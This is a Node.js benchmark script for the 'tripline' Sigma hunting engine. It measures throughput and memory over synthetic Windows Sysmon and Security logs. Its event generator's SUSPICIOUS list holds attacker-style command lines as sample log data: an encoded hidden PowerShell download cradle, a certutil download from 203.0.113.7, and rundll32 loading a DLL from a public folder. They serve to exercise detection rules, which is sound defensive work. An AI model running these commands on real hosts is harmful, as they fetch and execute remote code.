// Hunting benchmark. Usage: npm run build && node bench/hunt.mjs [--size-mb 200] [--big-gb 2] [--skip-big]
// (a) JSON lines hunted with every Windows rule of the SigmaHQ corpus vs a bare JSON.parse-per-line loop
//     over the same file (target ratio >= 0.5);
// (b) EVTX hunting events/s on one core with every Windows rule (target >= 50,000/s);
// (c) peak RSS of `tripline hunt` over a ~2 GB input made by repeating the JSON lines (target < 300 MB at
//     the default worker count), with the default (three runs: median time, highest peak), in one thread
//     (--workers 1) and with two workers (the big file is cut into ranges); also its events per wall
//     second, the whole command included, which run.mjs sets against the bare JSON.parse loop of (a)
//     (median of three runs).
// Rates are given per wall second and per CPU second (steadier on a shared machine); (a) also reports the
// reader alone and the engine alone, to show where the time goes. Inputs are generated deterministically
// into .bench/. Flags: --skip-big (no 2 GB run), --only-big (only the 2 GB run). One JSON summary on stdout.
import { spawnSync } from 'node:child_process';
import { createReadStream, createWriteStream, existsSync, mkdirSync, statSync, writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { huntFile } from '../dist/engine/hunt-file.js';
import { RuleMatcher } from '../dist/engine/matcher.js';
import { defaultWorkers } from '../dist/engine/parallel.js';
import { prepareRules } from '../dist/engine/select.js';
import { loadRules } from '../dist/ruleset/load.js';
import { writeEvtx } from '../dist/sources/evtx/index.js';
import { readEventBatches, readEvents } from '../dist/sources/index.js';

const root = fileURLToPath(new URL('..', import.meta.url));
const rulesDir = resolve(root, '../shared/corpus/sigma/rules/windows');
const benchDir = resolve(root, '.bench');
const arg = (name, dflt) => {
  const i = process.argv.indexOf(name);
  return i > 0 ? Number(process.argv[i + 1]) : dflt;
};
const sizeMb = arg('--size-mb', 200);
const bigGb = arg('--big-gb', 2);
const skipBig = process.argv.includes('--skip-big');
const onlyBig = process.argv.includes('--only-big');

if (!existsSync(rulesDir)) {
  console.error(`bench/hunt.mjs: the SigmaHQ corpus is missing at ${rulesDir}`);
  process.exit(2);
}
mkdirSync(benchDir, { recursive: true });

/** Writes the JSON lines file once (deterministic, so an existing file of the right size is reused). */
async function makeJsonl(path, bytes) {
  if (existsSync(path) && statSync(path).size >= bytes) return;
  const out = createWriteStream(path);
  let written = 0;
  for (const ev of generateEvents(1)) {
    const line = `${JSON.stringify(ev)}\n`;
    written += Buffer.byteLength(line);
    if (!out.write(line)) await new Promise((r) => out.once('drain', r));
    if (written >= bytes) break;
  }
  await new Promise((r) => out.end(r));
}

/** The baseline: split the file into lines and JSON.parse each one, nothing else. */
async function bareParse(path) {
  const t = performance.now();
  const c = cpuSeconds();
  let events = 0;
  let keys = 0;
  let rest = '';
  for await (const chunk of createReadStream(path, { encoding: 'utf8', highWaterMark: 1 << 20 })) {
    const text = rest + chunk;
    let start = 0;
    for (let nl = text.indexOf('\n'); nl >= 0; nl = text.indexOf('\n', start)) {
      if (nl > start) {
        keys += Object.keys(JSON.parse(text.slice(start, nl))).length;
        events++;
      }
      start = nl + 1;
    }
    rest = text.slice(start);
  }
  return { events, keys, seconds: (performance.now() - t) / 1000, cpu: cpuSeconds() - c };
}

/** CPU seconds of this process (user + system): steadier than wall time on a busy machine. */
function cpuSeconds() {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1e6;
}

/**
 * Hunts a file in this thread as `tripline hunt` does with one thread (huntFile: format detection, reading,
 * mapping, time range, matching, match batches); without a matcher, only reads the events.
 */
async function huntOne(path, matcher) {
  const t = performance.now();
  const c = cpuSeconds();
  let events = 0;
  let matches = 0;
  if (matcher) {
    const onMatches = (batch) => {
      matches += batch.length;
    };
    const totals = await huntFile(path, matcher, { range: {}, onSkip() {}, onWarning() {}, onMatches });
    events = totals.events;
  } else for await (const batch of readEventBatches(path)) for (const _ of batch) events++;
  return { events, matches, seconds: (performance.now() - t) / 1000, cpu: cpuSeconds() - c };
}

/** The run of median duration (an odd number of runs). */
function medianRun(runs) {
  return [...runs].sort((a, b) => a.seconds - b.seconds)[runs.length >> 1];
}

function rate(r) {
  return Math.round(r.events / r.seconds);
}

function cpuRate(r) {
  return Math.round(r.events / r.cpu);
}

async function main() {
  const tLoad = performance.now();
  const ruleset = await loadRules([rulesDir]);
  const prepared = prepareRules(ruleset.detections, ruleset.correlations);
  const loadSeconds = (performance.now() - tLoad) / 1000;
  const matcher = new RuleMatcher(prepared.compiled);

  // (a) JSON lines
  const jsonl = resolve(benchDir, `hunt-${sizeMb}mb.jsonl`);
  await makeJsonl(jsonl, sizeMb * 2 ** 20);
  const results = onlyBig ? {} : await singleCore(jsonl, matcher, prepared);
  const bigInput = skipBig ? null : await peakRss(jsonl, defaultWorkers());
  console.log(
    JSON.stringify(
      {
        rules: {
          compiled: prepared.compiled.length,
          skipped: prepared.skipped.length,
          loadSeconds: +loadSeconds.toFixed(2),
        },
        ...results,
        bigInput,
        node: process.version,
      },
      null,
      2,
    ),
  );
}

/** (a) and (b): one thread, wall and CPU time. */
async function singleCore(jsonl, matcher, prepared) {
  await bareParse(jsonl); // warm the page cache
  // The median of three: one run of the baseline moves ±10% with the host's load.
  const bare = medianRun([await bareParse(jsonl), await bareParse(jsonl), await bareParse(jsonl)]);
  const readOnly = await huntOne(jsonl, null);
  const hunted = await huntOne(jsonl, matcher);
  const engineOnly = await matchInMemory(jsonl, prepared);
  const jsonlResult = {
    file: jsonl,
    mb: +(statSync(jsonl).size / 2 ** 20).toFixed(1),
    events: hunted.events,
    matches: hunted.matches,
    rulesEvaluatedPerEvent: +(matcher.evaluated / hunted.events).toFixed(2),
    bareParseEventsPerSecond: rate(bare),
    huntEventsPerSecond: rate(hunted),
    ratio: +(rate(hunted) / rate(bare)).toFixed(3),
    bareParseEventsPerCpuSecond: cpuRate(bare),
    huntEventsPerCpuSecond: cpuRate(hunted),
    cpuRatio: +(cpuRate(hunted) / cpuRate(bare)).toFixed(3),
    readOnlyEventsPerCpuSecond: cpuRate(readOnly),
    engineOnlyEventsPerCpuSecond: engineOnly,
    target: 0.5,
  };

  // (b) EVTX on one core: the first 200,000 generated events written as an EVTX file
  const evtxPath = resolve(benchDir, 'hunt-200k.evtx');
  if (!existsSync(evtxPath)) {
    const events = [];
    for (const ev of generateEvents(1)) {
      events.push(ev);
      if (events.length >= 200_000) break;
    }
    writeFileSync(evtxPath, writeEvtx(events));
  }
  await huntOne(evtxPath, new RuleMatcher(prepared.compiled)); // warm-up
  const evtxHunt = await huntOne(evtxPath, new RuleMatcher(prepared.compiled));
  const evtxResult = {
    file: evtxPath,
    mb: +(statSync(evtxPath).size / 2 ** 20).toFixed(1),
    events: evtxHunt.events,
    matches: evtxHunt.matches,
    eventsPerSecond: rate(evtxHunt),
    eventsPerCpuSecond: cpuRate(evtxHunt),
    target: 50_000,
  };

  return { jsonl: jsonlResult, evtx: evtxResult };
}

/** The engine alone: the first 50,000 events read into memory, then matched (CPU time). */
async function matchInMemory(jsonl, prepared) {
  const events = [];
  for await (const ev of readEvents(jsonl)) {
    events.push(ev);
    if (events.length >= 50_000) break;
  }
  const matcher = new RuleMatcher(prepared.compiled);
  for (const ev of events) matcher.match(ev); // warm-up: routes, indexes, JIT
  const c = cpuSeconds();
  for (const ev of events) matcher.match(ev);
  return Math.round(events.length / (cpuSeconds() - c));
}

/** (c) peak RSS of the CLI over a big file (the JSON lines repeated), with one and two workers. */
async function peakRss(jsonl, defaults) {
  const big = resolve(benchDir, `hunt-${bigGb}gb.jsonl`);
  const wanted = bigGb * 2 ** 30;
  if (!existsSync(big) || statSync(big).size < wanted) {
    const out = createWriteStream(big);
    let written = 0;
    while (written < wanted) {
      for await (const chunk of createReadStream(jsonl, { highWaterMark: 1 << 22 })) {
        if (!out.write(chunk)) await new Promise((r) => out.once('drain', r));
      }
      written += statSync(jsonl).size;
    }
    await new Promise((r) => out.end(r));
  }
  // The big file is whole copies of the small one: its events are the small file's times the copies.
  const events = (await countLines(jsonl)) * Math.round(statSync(big).size / statSync(jsonl).size);
  const result = { file: big, gb: +(statSync(big).size / 2 ** 30).toFixed(2), events, target: 300 };
  // The default is the figure the issue judges: the median of three runs for time (the baseline of (a) is a
  // median of three too) and the highest of their memory peaks.
  const runs = [0, 1, 2].map(() => bigRun(big, undefined, events));
  const peakRssMb = Math.max(...runs.map((r) => r.peakRssMb));
  result.workersDefault = { workers: defaults, runs: runs.length, ...medianRun(runs), peakRssMb };
  for (const workers of [1, 2]) result[`workers${workers}`] = bigRun(big, workers, events);
  return result;
}

async function countLines(path) {
  let n = 0;
  for await (const chunk of createReadStream(path, { highWaterMark: 1 << 20 }))
    for (let i = chunk.indexOf(10); i >= 0; i = chunk.indexOf(10, i + 1)) n++;
  return n;
}

/**
 * Runs `tripline hunt` over the big file under /usr/bin/time: peak RSS (whole process, all threads), time.
 * Without `workers` the CLI picks its default.
 */
function bigRun(big, workers, events) {
  const cli = resolve(root, 'dist/bin/main.js');
  const hunt = [
    cli,
    'hunt',
    big,
    '-r',
    rulesDir,
    '--format',
    'jsonl',
    '-o',
    '/dev/null',
    '--quiet',
    ...(workers === undefined ? [] : ['--workers', `${workers}`]),
  ];
  const run = spawnSync('/usr/bin/time', ['-f', '%M %e %U %S', process.execPath, ...hunt], { encoding: 'utf8' });
  const [kb, secs, user, sys] = (run.stderr.trim().split('\n').pop() ?? '').split(' ').map(Number);
  return {
    exitCode: run.status,
    peakRssMb: Math.round(kb / 1024),
    seconds: secs,
    cpuSeconds: +(user + sys).toFixed(1),
    mbPerSecond: +(statSync(big).size / 2 ** 20 / secs).toFixed(1),
    // Per wall second of the whole command: start-up, rule loading and output included.
    eventsPerSecond: Math.round(events / secs),
  };
}

// ---- deterministic event generator (Sysmon and Security events in evtx_dump JSON shape) ----

function mulberry32(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTS = ['WS01.corp.local', 'WS02.corp.local', 'WS17.corp.local', 'SRV-FILE01.corp.local', 'DC01.corp.local'];
const USERS = ['CORP\\alice', 'CORP\\bob', 'CORP\\carol', 'NT AUTHORITY\\SYSTEM', 'CORP\\svc_backup', 'CORP\\dave'];
const BENIGN = [
  [
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    'C:\\Windows\\System32\\services.exe',
  ],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1704,i,551',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  ],
  [
    'C:\\Windows\\System32\\conhost.exe',
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'C:\\Windows\\System32\\userinit.exe'],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Windows\\System32\\taskhostw.exe',
    'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'C:\\Windows\\System32\\RuntimeBroker.exe',
    'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'C:\\Program Files\\7-Zip\\7z.exe',
    '"C:\\Program Files\\7-Zip\\7z.exe" x report.zip -oC:\\Users\\alice\\Documents',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Windows\\System32\\SearchIndexer.exe',
    'C:\\Windows\\system32\\SearchIndexer.exe /Embedding',
    'C:\\Windows\\System32\\services.exe',
  ],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -File C:\\Scripts\\inventory.ps1',
    'C:\\Windows\\System32\\svchost.exe',
  ],
];
const SUSPICIOUS = [
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /all', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Users\\Public\\a.dll,DllRegisterServer',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\certutil.exe',
    'certutil -urlcache -split -f http://203.0.113.7/p.exe p.exe',
    'C:\\Windows\\System32\\cmd.exe',
  ],
];
const DLLS = [
  'C:\\Windows\\System32\\ntdll.dll',
  'C:\\Windows\\System32\\kernel32.dll',
  'C:\\Windows\\System32\\advapi32.dll',
  'C:\\Windows\\System32\\crypt32.dll',
];
const DOMAINS = [
  'www.microsoft.com',
  'login.microsoftonline.com',
  'update.googleapis.com',
  'intranet.corp.local',
  'cdn.office.net',
];
const REGKEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
  'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming',
  'HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Start',
];

function guid(rnd) {
  const h = () =>
    Math.floor(rnd() * 0x10000)
      .toString(16)
      .toUpperCase()
      .padStart(4, '0');
  return `{${h()}${h()}-${h()}-${h()}-${h()}-${h()}${h()}${h()}}`;
}

function system(provider, eid, recordId, time, channel, host) {
  return {
    Provider: { '#attributes': { Name: provider, Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' } },
    EventID: eid,
    Version: 5,
    Level: 4,
    Task: eid,
    Opcode: 0,
    Keywords: '0x8000000000000000',
    TimeCreated: { '#attributes': { SystemTime: new Date(time).toISOString() } },
    EventRecordID: recordId,
    Correlation: null,
    Execution: { '#attributes': { ProcessID: 3412, ThreadID: 4820 } },
    Channel: channel,
    Computer: host,
    Security: { '#attributes': { UserID: 'S-1-5-18' } },
  };
}

function sysmonData(rnd, eid, time, pick) {
  const [image, cmd, parent] = rnd() < 0.003 ? pick(SUSPICIOUS) : pick(BENIGN);
  const common = {
    RuleName: '-',
    UtcTime: new Date(time).toISOString().replace('T', ' ').slice(0, 23),
    ProcessGuid: guid(rnd),
    ProcessId: 1000 + Math.floor(rnd() * 9000),
  };
  switch (eid) {
    case 1:
      return {
        ...common,
        Image: image,
        FileVersion: '10.0.19041.1',
        Description: 'Windows host process',
        Product: 'Microsoft Windows Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: image.split('\\').pop(),
        CommandLine: cmd,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: pick(USERS),
        LogonGuid: guid(rnd),
        LogonId: '0x3e7',
        TerminalSessionId: 1,
        IntegrityLevel: 'Medium',
        Hashes: 'SHA256=7FD065BAC18C5278777AE44908101CDFED72D26FA741367F0AD4D02020787AB6',
        ParentProcessGuid: guid(rnd),
        ParentProcessId: 812,
        ParentImage: parent,
        ParentCommandLine: parent,
        ParentUser: pick(USERS),
      };
    case 3:
      return {
        ...common,
        Image: image,
        User: pick(USERS),
        Protocol: 'tcp',
        Initiated: true,
        SourceIsIpv6: false,
        SourceIp: `10.0.${Math.floor(rnd() * 4)}.${Math.floor(rnd() * 254) + 1}`,
        SourceHostname: pick(HOSTS),
        SourcePort: 49152 + Math.floor(rnd() * 16000),
        DestinationIsIpv6: false,
        DestinationIp: `52.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`,
        DestinationPort: pick([443, 80, 445, 389, 53]),
      };
    case 7:
      return {
        ...common,
        Image: image,
        ImageLoaded: pick(DLLS),
        Signed: true,
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
        Hashes: 'SHA256=0A9E0C24B4E2D9B8',
        User: pick(USERS),
      };
    case 10:
      return {
        ...common,
        SourceProcessGUID: guid(rnd),
        SourceProcessId: 812,
        SourceThreadId: 900,
        SourceImage: image,
        TargetProcessGUID: guid(rnd),
        TargetProcessId: 640,
        TargetImage: 'C:\\Windows\\system32\\svchost.exe',
        GrantedAccess: '0x1000',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e',
      };
    case 11:
      return {
        ...common,
        Image: image,
        TargetFilename: `C:\\Users\\alice\\AppData\\Local\\Temp\\${Math.floor(rnd() * 1e6)}.tmp`,
        CreationUtcTime: common.UtcTime,
        User: pick(USERS),
      };
    case 13:
      return {
        ...common,
        EventType: 'SetValue',
        Image: image,
        TargetObject: pick(REGKEYS),
        Details: 'DWORD (0x00000002)',
        User: pick(USERS),
      };
    default:
      return {
        ...common,
        QueryName: pick(DOMAINS),
        QueryStatus: '0',
        QueryResults: '::ffff:52.1.2.3;',
        Image: image,
        User: pick(USERS),
      };
  }
}

function securityData(rnd, eid, pick) {
  const user = pick(USERS).split('\\')[1];
  if (eid === 4688) {
    const [image, cmd, parent] = rnd() < 0.003 ? pick(SUSPICIOUS) : pick(BENIGN);
    return {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'WS01$',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7',
      NewProcessId: '0x1a2c',
      NewProcessName: image,
      TokenElevationType: '%%1936',
      ProcessId: '0x32c',
      CommandLine: cmd,
      TargetUserSid: 'S-1-0-0',
      TargetUserName: user,
      TargetDomainName: 'CORP',
      TargetLogonId: '0x0',
      ParentProcessName: parent,
      MandatoryLabel: 'S-1-16-8192',
    };
  }
  return {
    SubjectUserSid: 'S-1-5-18',
    SubjectUserName: 'DC01$',
    SubjectDomainName: 'CORP',
    SubjectLogonId: '0x3e7',
    TargetUserSid: 'S-1-5-21-1-1104',
    TargetUserName: user,
    TargetDomainName: 'CORP',
    TargetLogonId: '0x8a1f3',
    LogonType: pick([2, 3, 3, 3, 10]),
    LogonProcessName: 'Kerberos',
    AuthenticationPackageName: 'Kerberos',
    WorkstationName: '-',
    LogonGuid: guid(rnd),
    TransmittedServices: '-',
    LmPackageName: '-',
    KeyLength: 0,
    ProcessId: '0x0',
    ProcessName: '-',
    IpAddress: `10.0.1.${Math.floor(rnd() * 254) + 1}`,
    IpPort: '0',
    ImpersonationLevel: '%%1833',
  };
}

/** An endless, deterministic stream of realistic Sysmon and Security events. */
function* generateEvents(seed) {
  const rnd = mulberry32(seed);
  const pick = (xs) => xs[Math.floor(rnd() * xs.length)];
  let time = Date.UTC(2024, 4, 1);
  for (let id = 1; ; id++) {
    time += Math.floor(rnd() * 200);
    const host = pick(HOSTS);
    if (rnd() < 0.7) {
      const eid = pick([1, 1, 3, 3, 7, 7, 7, 10, 11, 13, 13, 22]);
      yield {
        Event: {
          System: system('Microsoft-Windows-Sysmon', eid, id, time, 'Microsoft-Windows-Sysmon/Operational', host),
          EventData: sysmonData(rnd, eid, time, pick),
        },
      };
    } else {
      const eid = pick([4624, 4624, 4634, 4688, 4672, 4625]);
      yield {
        Event: {
          System: system('Microsoft-Windows-Security-Auditing', eid, id, time, 'Security', host),
          EventData: securityData(rnd, eid, pick),
        },
      };
    }
  }
}

await main();
